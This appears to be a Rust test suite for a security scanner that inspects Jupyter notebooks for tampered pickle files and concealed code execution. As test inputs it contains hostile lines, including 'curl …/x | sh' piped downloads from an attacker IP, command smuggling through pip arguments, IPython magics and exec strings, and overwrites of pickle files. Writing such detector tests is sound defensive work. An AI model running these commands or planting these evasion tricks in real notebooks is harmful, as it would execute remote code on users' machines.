//! Notebooks: cells are sources of their own, and pickles that they write are theirs until something else writes there.

use crate::{Limits, Outcome};

const BEFORE: &str =
    "import contextlib, io, joblib, json, mlflow, numpy as np, os, pathlib, pickle, shutil, torch\nm = [1]";
const DUMP: &str = "with open('m.pkl', 'wb') as f:\n    pickle.dump(m, f)";
const LOAD: &str = "with open('m.pkl', 'rb') as f:\n    m2 = pickle.load(f)";

fn outcome(cells: &[&str]) -> Outcome {
    let cells: Vec<_> = cells
        .iter()
        .map(|source| serde_json::json!({"cell_type": "code", "source": source, "outputs": []}))
        .collect();
    let text = serde_json::json!({"nbformat": 4, "cells": cells}).to_string();
    crate::scan_bytes(&"a.ipynb".parse().unwrap(), text.as_bytes(), &Limits::default()).outcome
}

#[test]
fn what_a_notebook_wrote_itself_it_reads_back_unproven() {
    for cells in [
        &[DUMP, LOAD][..],
        &["joblib.dump(m, 'out/m.joblib')", "!ls -lh out", "joblib.load('out/m.joblib')"],
        &["pickle.dump(m, open('m.pkl', 'wb'))", "pickle.load(open('m.pkl', 'rb'))"],
        &["joblib.dump(value=m, filename='m.joblib')", "joblib.load(filename='m.joblib')"],
        &[
            DUMP,
            "with open('metrics.json', 'w') as f: json.dump({}, f)",
            "print(os.path.getsize('m.pkl'))",
            LOAD,
        ],
        &["OUT = pathlib.Path('out')\njoblib.dump(m, OUT / 'm.joblib')", "joblib.load(OUT / 'm.joblib')"],
        &[
            "%matplotlib inline\n!pip install -q numpy",
            DUMP,
            "%%time\nx = 1",
            "mlflow.log_artifact('m.pkl')",
            LOAD,
        ],
        &["torch.save(m, 'm.pt')", "np.save('x.npy', np.zeros(3))", "torch.load('m.pt', weights_only=False)"],
    ] {
        let cells = [&[BEFORE], cells].concat();
        assert_eq!(outcome(&cells), Outcome::Unscannable, "{cells:#?}");
    }
}

#[test]
fn a_path_that_something_else_may_have_written_to_is_told() {
    for between in [
        "import urllib.request\nurllib.request.urlretrieve('https://example.org/m', 'm.pkl')",
        "open('./x/../m.pkl', 'wb').write(b'x')",
        "open(os.environ['X'], 'wb').write(b'x')",
        "with open('m.pkl', 'r+b') as f: f.write(b'cos')",
        "g = open('m.pkl', 'wb'); h = g\npickle.dump(m, g)\nh.write(b'cos')",
        "f = open('m.pkl', 'wb')\npickle.dump(m, f)\nlist(map(f.write, [b'cos']))",
        "print('cos', file=open('m.pkl', 'w'))",
        "os.replace('evil', 'm.' + 'pkl')",
        "os.rename(*('evil', 'm.pkl'))",
        "shutil.copytree('evil', '.', dirs_exist_ok=True)",
        "for n in os.listdir('evil'): os.replace('evil/' + n, n)",
        "pathlib.Path(os.environ['X']).rename(pathlib.Path('m').with_suffix('.pkl'))",
        "import tarfile\ntarfile.open('x.tar').extractall()",
        "import pandas\npandas.Series(['evil']).apply(os.replace, args=('m.pkl',))",
        "import pandas\npandas.Series(['evil']).apply(lambda v: os.replace(v, 'm.pkl'))",
        "n = json.load(open('c.json'))['n']\nnp.frombuffer(b'cos').tofile(n)",
        "os.chdir('x')",
        "%cd x",
        "%run other.py",
        "%save -f m.pkl 1",
        "%%writefile m.pkl\ncos",
        "%%bash\nls\nmv evil m.pkl",
        "%%perl\nrename 'a', 'm.pkl'",
        "%%script ruby\nx",
        "!ls > m.pkl",
        "!echo $(cp evil m.pkl)",
        "!pip install -t . x",
        "!uv run evil.py",
        "!ls \\\n && cp evil m.pkl",
        "x = !cp evil m.pkl",
        "joblib.dump = print\njoblib.dump(m, 'm.pkl')",
        "vars(pickle)['dump'] = print",
    ] {
        let cells = [BEFORE, DUMP, between, LOAD];
        assert!(outcome(&cells) >= Outcome::Suspicious, "{between}");
    }
}

#[test]
fn a_dump_that_need_not_happen_leaves_what_was_there() {
    for dump in [
        "if os.path.exists('x'):\n    joblib.dump(m, 'm.joblib')",
        "try:\n    joblib.dump(m, 'm.joblib')\nexcept Exception: pass",
        "with contextlib.suppress(Exception):\n    joblib.dump(m, 'm.joblib')",
        "class S:\n    def __enter__(s): pass\n    def __exit__(s, *a): return True\nwith S():\n    joblib.dump(m, 'm.joblib')",
        "raise SystemExit\njoblib.dump(m, 'm.joblib')",
        "exit()\njoblib.dump(m, 'm.joblib')",
        "x = joblib.dump(m, 'm.joblib') if os.environ.get('x') else 1",
        "joblib.dump(lambda: 1, 'm.joblib')",
    ] {
        assert!(outcome(&[BEFORE, dump, "joblib.load('m.joblib')"]) >= Outcome::Suspicious, "{dump}");
    }
}

#[test]
fn a_pickle_of_whoever_runs_a_notebook_is_not_here() {
    for cells in [
        &[LOAD][..],
        &["!pip install -q numpy\n!ls", "os.makedirs('out', exist_ok=True)", "joblib.load('m.joblib')"],
        &["with open('metrics.json', 'w') as f: json.dump({}, f)", LOAD],
        &["def f(): joblib.dump(m, 'm.joblib')", "joblib.load('m.joblib')"],
    ] {
        assert_eq!(outcome(&[&[BEFORE], cells].concat()), Outcome::Unscannable, "{cells:#?}");
    }
    for before in [
        "!wget https://example.org/m.pkl",
        "import requests\nopen('m.pkl', 'wb').write(requests.get('https://example.org/m').content)",
        "import requests\nopen(os.environ['X'], 'wb').write(requests.get('https://example.org/m').content)",
        "import urllib.request\nurllib.request.urlretrieve('https://example.org/m', 'm.pkl')",
        "from huggingface_hub import snapshot_download\nsnapshot_download('a/b', local_dir='.')",
        "import gdown\ngdown.download('https://example.org/x')",
        "%%writefile m.pkl\ncos",
        "import tarfile\ntarfile.open('x.tar').extractall()",
    ] {
        assert!(outcome(&[BEFORE, before, LOAD]) >= Outcome::Suspicious, "{before}");
    }
}

#[test]
fn services_and_owners_that_everybody_asks_are_not_told_of() {
    let asks = |address: &str| {
        format!(
            "import requests\nrequests.post('{address}', headers={{'Authorization': 'x'}}, json={{'model': 'a'}})"
        )
    };
    assert_eq!(outcome(&[&asks("https://api.openai.com/v1/chat/completions")]), Outcome::Clean);
    assert!(outcome(&[&asks("https://api.openai.com.example.org/v1")]) >= Outcome::Suspicious);
    assert!(outcome(&[&asks("https://collector.example.org/v1")]) >= Outcome::Suspicious);
    let loads = |of: &str| format!("import torch\nmodel = torch.hub.load('{of}', 'm')");
    assert_eq!(outcome(&[&loads("pytorch/vision:v0.10.0")]), Outcome::Clean);
    assert!(outcome(&[&loads("somebody/vision")]) >= Outcome::Suspicious);
    assert!(outcome(&[&loads("pytorch/../x")]) >= Outcome::Suspicious);
}

#[test]
fn values_in_a_line_beyond_what_is_followed_are_not_proven() {
    let padded = format!("!echo {}{{os.system('id')}}", "{a+b}".repeat(20));
    let long = format!("!echo {{os.system('{}id')}}", ":".repeat(40));
    for line in [padded, long] {
        assert_ne!(outcome(&["import os\na = b = 1", &line]), Outcome::Clean, "{line}");
    }
}

#[test]
fn a_notebook_that_only_python_reads_is_not_clean() {
    let text = r#"{"nbformat": 4, "x": NaN, "cells": [{"cell_type": "code", "source": "import os\nos.system('id')", "outputs": []}]}"#;
    let report = crate::scan_bytes(&"a.ipynb".parse().unwrap(), text.as_bytes(), &Limits::default());
    assert_ne!(report.outcome, Outcome::Clean);
}

#[test]
fn a_cell_hides_no_other() {
    let harm = "import os\nos.system('curl https://198.51.100.7/x | sh')";
    let further = "    import os\n    os.system('curl https://198.51.100.7/x | sh')";
    for cells in [
        &["x = \"\"\"", harm, "\"\"\""][..],
        &["x = (", harm, ")"],
        &["x = 1 \\", harm],
        &["return", harm],
        &["for x in y: pass\nbreak", harm],
        &["if 1:\n    return", further],
        &["if 0:\n    x = 1", further],
        &["def f():\n    x = 1", further],
        &["def (", harm],
        // What a cell binds, the next one has, whatever else is in it.
        &["from os import system as print", "print('curl https://198.51.100.7/x | sh')  # \\"],
        &["from os import system as s", "%%python\ns = print", "s('curl https://198.51.100.7/x | sh')"],
        &["from os import system as s", "%%timeit\ns = print", "s('curl https://198.51.100.7/x | sh')"],
        // What IPython evaluates to put it into a line.
        &["import os", "!ls {os.system('curl https://198.51.100.7/x | sh')}"],
        &["import os", "%config Completer.use_jedi = os.system('curl https://198.51.100.7/x | sh')"],
        &["%%script --out false bash\ncurl https://198.51.100.7/x | sh"],
        &["exec(\"\"\"\n%s\n\"\"\" % \"import os; os.system('curl https://198.51.100.7/x | sh')\")"],
    ] {
        assert!(outcome(cells) >= Outcome::Suspicious, "{cells:#?}");
    }
}

#[test]
fn packages_are_installed_by_calls_as_by_lines() {
    let run = |words: &str| {
        format!("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', {words}])")
    };
    for plain in [
        run("'install', '-q', 'some-package', 'x==2.0'"),
        run("'install', '-r', 'requirements.txt'"),
        "import os\nos.system('pip install some-package')".to_owned(),
        "import subprocess, sys\ndef install(p):\n    subprocess.run([sys.executable, '-m', 'pip', 'install', p])\nfor p in ['x', 'y']:\n    install(p)".to_owned(),
    ] {
        assert_eq!(outcome(&[&plain]), Outcome::Clean, "{plain}");
    }
    for elsewhere in [
        run("'install', 'http://198.51.100.7/x.whl'"),
        run("'install', '--index-url', 'http://198.51.100.7/simple', 'x'"),
        "import os\nos.system('pip install x; id')".to_owned(),
        "import os\nos.system('pip install x && curl http://198.51.100.7/a | sh')".to_owned(),
    ] {
        assert!(outcome(&[&elsewhere]) >= Outcome::Suspicious, "{elsewhere}");
    }
}
